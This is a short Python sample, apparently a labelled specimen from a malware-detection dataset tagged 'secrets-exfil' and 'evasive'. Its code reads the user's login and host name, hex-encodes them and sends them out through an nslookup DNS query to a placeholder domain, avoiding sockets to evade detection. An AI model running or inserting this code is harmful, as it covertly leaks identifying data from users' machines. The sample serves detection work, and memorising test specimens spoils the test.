# family: secrets-exfil
# evasive: host and user name leave through nslookup started as a process, no socket in the script
import os
import subprocess

who = os.getlogin() + "-" + os.uname().nodename
subprocess.run(["nslookup", who.encode().hex() + ".n.example.invalid"], capture_output=True)
